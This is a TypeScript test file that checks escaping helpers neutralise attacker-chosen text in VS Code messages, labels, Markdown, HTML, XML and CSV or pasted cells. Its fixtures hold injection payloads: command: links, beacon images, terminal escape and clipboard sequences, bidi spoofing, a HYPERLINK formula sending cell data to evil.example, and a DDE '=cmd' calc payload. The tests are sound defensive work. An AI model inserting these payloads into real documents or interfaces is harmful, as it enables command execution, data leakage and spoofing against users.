import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import {
  asCsvCell,
  asHtml,
  asLabel,
  asMarkdown,
  asMessage,
  asPastedCell,
  asXml,
  printableJson,
  visibleControls,
} from "../../../analyzer/base/foreignText";

/** Names as an attacker would choose them. */
const hostile = [
  "com/evil/Order [Source moved](command:workbench.action.quit)",
  "![beacon](https://127.0.0.1:9/beacon.png)",
  "`![beacon](https://127.0.0.1:9/beacon.png)`",
  "<img src=https://127.0.0.1:9/beacon.png>",
  "[a][b]\n\n[b]: https://127.0.0.1:9/",
  "https://evil.example/ www.evil.example <https://evil.example> &lt;b&gt; &#60;img&#62;",
  "# heading\n- item\n1. item\n| a | b |\n|---|---|",
  "$(bug) \\$(bug) $(sync~spin) @everyone $x$ ~~gone~~ **bold** _it_",
  "--- \\ \\\\[x](command:y) \\](command:z)",
  "\u001b]0;title\u0007\u001b[2J\u009b31m\u001b]52;c;ZXZpbA==\u0007 a\r\nb\tc\u007f \u202egnp.exe \u2066x\u2069\u2028y",
  "String\u200b Str\u00ading \ufeffString \u2060String",
];

describe("visible controls", () => {
  it("shows each control as its escape, in one line", () => {
    expect(visibleControls("a\u001b[31m\r\n\t\u009b\u202e\u007fz é 日本 👩‍👧")).toBe(
      "a\\x1b[31m\\r\\n\\t\\x9b\\u202e\\x7fz é 日本 👩‍👧",
    );
  });

  it.each(hostile)("leaves none in %j", (text) => {
    expect(visibleControls(text)).not.toMatch(
      /[\p{Cc}\p{Zl}\p{Zp}\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u,
    );
  });

  it.each(hostile)("keeps the value of JSON with %j", (text) => {
    const json = printableJson(JSON.stringify({ text, list: [text] }, null, 2));
    expect(JSON.parse(json)).toEqual({ text, list: [text] });
    expect(json.replaceAll("\n", "")).not.toMatch(/[\p{Cc}\p{Zl}\u202e]/u);
  });
});

describe("messages", () => {
  // What VS Code 1.100 takes for a link in a message.
  const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

  it("would be links as they come", () => expect(hostile.filter((text) => link.test(text))).not.toEqual([]));
  it.each(hostile)("has no link in %j", (text) => expect(asMessage(text)).not.toMatch(link));
  it("leaves an ordinary sentence as it is", () => {
    const text = "No source found for java.util.Map$Entry[] (2 looked at). Looked in: /home/me/a b.";
    expect(asMessage(text)).toBe(text);
  });
});

describe("labels", () => {
  // How VS Code finds icons; a backslash before one makes it text.
  const icons = (text: string) =>
    [...text.matchAll(/(\\)?\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/g)].filter(
      ([, escaped]) => escaped === undefined,
    );

  it("would be icons as they come", () => expect(hostile.flatMap(icons)).not.toEqual([]));
  it.each(hostile)("has no icon in %j", (text) => expect(icons(asLabel(text))).toEqual([]));
  it("leaves class names as they are", () => expect(asLabel("a.B$C$(x y)")).toBe("a.B$C$(x y)"));
});

describe("Markdown", () => {
  const markdown = new MarkdownIt({ html: true, linkify: true });

  it.each(hostile)("is one paragraph of text for a judge that reads HTML and bare links: %j", (text) => {
    for (const around of [
      (escaped: string) => escaped,
      (escaped: string) => `**x**: ${escaped} and\n\nmore`,
    ]) {
      const kinds = new Set<string>();
      for (const { type, children } of markdown.parse(around(asMarkdown(text)), {}))
        for (const each of [type, ...(children ?? []).map((child) => child.type)]) kinds.add(each);
      for (const kind of [
        "link_open",
        "image",
        "html_inline",
        "html_block",
        "code_inline",
        "heading_open",
        "em_open",
      ])
        expect([kind, kinds.has(kind)]).toEqual([kind, false]);
      expect([...kinds].filter((kind) => /list|hr|table|fence|s_open|blockquote/.test(kind))).toEqual([]);
    }
  });

  it("shows the same text", () => {
    const text = "com.example.Map$Entry[] <init> a_b*c #1 & &lt; `x` \\ 1. - @me 100 %";
    const shown = markdown.renderInline(asMarkdown(text));
    expect(shown).toBe(text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;"));
  });
});

describe("HTML and XML", () => {
  it("has no markup and no end of an attribute", () => {
    expect(asHtml(`<a href="x" id='y'>&`)).toBe("&#60;a href=&#34;x&#34; id=&#39;y&#39;&#62;&#38;");
  });
  it("has no character that XML cannot carry", () => {
    expect(asXml("a\u001b\u0000\ufffe\ud800<\t\n")).toBe("a    &#60;\t\n");
  });
});

describe("cells of a table that is saved or copied", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2,"x")', `"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\tx", "'\tx"],
    ["\rx", `"'\rx"`],
    ["-12.5", "-12.5"],
    ["+7", "+7"],
    ["a=b", "a=b"],
    [-12, "-12"],
    [1e21, "1e+21"],
  ])("writes %j as %j", (value, cell) => expect(asCsvCell(value)).toBe(cell));

  it("keeps a pasted row one row", () => {
    expect(asPastedCell("=cmd|' /C calc'!A0\tb\r\nc")).toBe("'=cmd|' /C calc'!A0\\tb\\r\\nc");
  });
});
